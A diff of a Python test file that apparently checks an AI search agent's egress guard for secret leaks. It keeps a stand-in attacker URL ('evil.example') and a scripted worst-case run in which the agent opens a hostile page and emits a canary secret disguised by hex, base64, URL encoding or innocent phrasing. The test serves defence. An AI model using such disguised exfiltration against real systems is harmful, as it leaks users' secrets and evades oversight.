@@ -8,10 +8,8 @@ the search backend or a tool with an effect is written down and searched for the
 from __future__ import annotations
 
 import asyncio
-import base64
 import random
 import secrets
-from collections.abc import Callable
 from dataclasses import replace
 from pathlib import Path
 from typing import Any
@@ -21,20 +19,9 @@ import pytest
 from searchloop.agent.guard.egress import Secrets, forms
 from searchloop.agent.tools import Tool, tool
 from searchloop.agent.types import Mode, ToolCall
+from tests.agent.guard.test_leaks import DRESSES
 from tests.agent.scripted import Scripted, SearchApp, Step, calls, found, open_house, page, says
 
-DRESSES: tuple[Callable[[str], str], ...] = (
-    str,
-    lambda s: s[::-1],
-    lambda s: s.encode().hex(),
-    lambda s: base64.b64encode(s.encode()).decode(),
-    lambda s: base64.urlsafe_b64encode(f"x{s}".encode()).decode().rstrip("="),
-    lambda s: "".join(f"%{b:02x}" for b in s.encode()),
-    lambda s: " ".join(s),
-    lambda s: "-".join(s[i : i + 4] for i in range(0, len(s), 4)),
-    lambda s: f"tides near {s} today",
-    lambda s: f"the code of the safe is {s}",
-)
 EVIL = "https://evil.example/"
 
 
@@ -44,7 +31,7 @@ def worst(chance: random.Random, canary: str, steps: int) -> list[Step]:
         calls(ToolCall("look", "diary", {}), ToolCall("read", "open_page", {"url": f"{EVIL}start"}))
     ]
     for n in range(steps):
-        loot = chance.choice(DRESSES)(canary)
+        loot = chance.choice([*DRESSES.values()])(canary)
         script.append(
             calls(
                 *(
